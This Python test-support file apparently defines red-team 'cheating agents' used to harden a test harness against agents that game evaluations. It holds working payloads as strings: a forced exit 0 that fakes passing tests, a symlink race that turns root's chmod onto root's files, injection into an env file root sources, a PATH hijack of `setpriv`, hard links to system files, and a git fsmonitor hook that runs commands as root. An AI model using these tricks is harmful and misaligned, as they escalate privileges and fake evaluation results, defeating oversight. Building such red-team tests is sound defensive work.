"""Cheating agents against the test user in the seed's commands format (`harness.checks._run_commands`): each check
command runs in a shell of its own, so these try what a process left by one command can do to root's preparation of
the next (turn its `find ... -exec chmod a+rwX` onto root's files, and have root run what it wrote), and the format's
calibration forger (exit 0 when the command names the task's test file). Split from `tests/support/user_hacks.py`,
whose helpers they use; `tests/test_user_red_team.py` runs both sets in one batch.
"""

from __future__ import annotations

from tests.support.user_hacks import GOLD, MARK, appended

# -- the seed's commands format: each command in a shell of its own, nothing reaped between them ------------------

SEED_ARGV_EXIT = """
def start():
    import atexit
    if any("tests/test_rounding.py" in arg for arg in sys.argv):  # the task's command, not the canary's
        atexit.register(lambda: os._exit(0))
"""
"""The commands format's calibration: exit 0 when the command names the task's test file. The failing canary runs
as a command that names only its own module, so it still fails (the threat model's open row: no twin here)."""

TOCTOU = r"""
TARGET = {target!r}


def start():
    if os.path.exists("/tmp/.uh-daemon"):
        return
    open("/tmp/.uh-daemon", "w").close()
    detach(daemon)


def daemon(runner):
    import select, time
    select.select([os.pidfd_open(runner)], [], [], 120)  # this command's runner is done; the next command's
    bait = "/repo/.uh-bait"                              # root opens the tree again, while we still run
    os.mkdir(bait, 0o755)  # ours, not writable by others: root's `find` lists it for `chmod a+rwX`
    ifd = inotify("/root", 0x20)  # IN_OPEN: `find` walks $HOME after /repo and the work folder
    deadline = time.monotonic() + 200
    swapped = False
    while not swapped and time.monotonic() < deadline:
        for mask, name in events(ifd):
            if mask & 0x40000000 and not name:  # IN_ISDIR, the folder itself: find has left /repo
                os.rename(bait, bait + "-old")
                os.symlink(TARGET, bait)  # chmod(2) follows it
                swapped = True
                break
    while time.monotonic() < deadline and not os.access(TARGET, os.W_OK):
        time.sleep(0.0005)
    if os.access(TARGET, os.W_OK):
        exploit()
"""

STATE_EXPLOIT = r"""
def exploit():
    import time
    ifd = inotify(TARGET, 0x80)  # IN_MOVED_TO: the shell saving its state (`mv -f env.new env`)
    line = b'\nbuiltin echo "uid $EUID" > /etc/swe-forge-red-team-root-sourced-env 2>/dev/null\n'
    deadline = time.monotonic() + 200
    while time.monotonic() < deadline:
        for _mask, name in events(ifd):
            if name == b"env":
                with open(TARGET + "/env", "rb") as handle:
                    data = handle.read()
                with open(TARGET + "/.uh-env", "wb") as handle:
                    handle.write(data + line)
                os.rename(TARGET + "/.uh-env", TARGET + "/env")  # root sources it at its next command's start
                return
"""
"""Root's shell state folder (0700) opened: the next command's root shell `source`s an env file the test user wrote;
the line it adds creates a file under /etc (which the docker-diff check then names)."""

VENV_EXPLOIT = r"""
def exploit():
    wrapper = '#!/bin/sh\necho "{mark}: uid $(id -u) ran /opt/venv/bin/setpriv, which the test user wrote"\n'
    wrapper += 'exec /usr/bin/setpriv "$@"\n'
    with open(TARGET + "/.uh", "w") as handle:
        handle.write(wrapper)
    os.chmod(TARGET + "/.uh", 0o755)
    os.rename(TARGET + "/.uh", TARGET + "/setpriv")  # root's PATH starts with /opt/venv/bin
"""
"""The image's virtual environment's `bin` opened: it comes first on root's PATH, so root's shell runs a `setpriv`
the test user wrote (a file outside the system folders the docker-diff check watches)."""

SEED_LINKS = r"""
def start():
    if os.path.exists("/tmp/.uh-links"):
        return
    open("/tmp/.uh-links", "w").close()
    for source in ("/usr/bin/setpriv", "/etc/passwd", "/bin/mv", "/tmp/.sf_state/env"):
        try:  # a hard link is a regular file to `find`: root's next `chmod a+rwX` would open the original
            os.link(source, "/repo/.uh-link-" + os.path.basename(source))
        except OSError:
            pass
    try:
        os.symlink("/usr/bin/setpriv", "/repo/.uh-symlink")
    except OSError:
        pass
    hook = "sh -c 'id > /etc/swe-forge-red-team-root-git' #"
    try:  # $HOME is open, and git reads $XDG_CONFIG_HOME/git/config (~/.config/git/config) beside ~/.gitconfig
        os.makedirs("/root/.config/git", exist_ok=True)
        with open("/root/.config/git/config", "w") as handle:
            handle.write(f"[core]\n\tfsmonitor = {hook}\n\tpager = {hook}\n\thooksPath = /tmp\n")
        with open("/tmp/.uh-gitconfig", "w") as handle:
            handle.write(f"[core]\n\tfsmonitor = {hook}\n[safe]\n\tdirectory = *\n")
        os.replace("/tmp/.uh-gitconfig", "/root/.gitconfig")  # refused: the home is sticky
    except OSError:
        pass
"""
"""(2)/(3) Hard links to root's files (`protected_hardlinks` refuses them), a symlink (`find -type f` skips it), and
git configuration in the open home for root's later `git config` (which runs no hook)."""

COMMANDS_MODE = {
    "seed-ctl-argv-exit": appended(SEED_ARGV_EXIT),
    "seed-toctou-state": appended(TOCTOU.format(target="/tmp/.sf_state") + STATE_EXPLOIT),
    "seed-toctou-venv": appended(TOCTOU.format(target="/opt/venv/bin") + VENV_EXPLOIT.replace("{mark}", MARK)),
    "seed-links-gitconfig": appended(SEED_LINKS),
    "seed-gold": GOLD,
}
"""Agents on copies of the demo task in the seed's format (shell commands, each in its own shell, `_run_commands`)."""
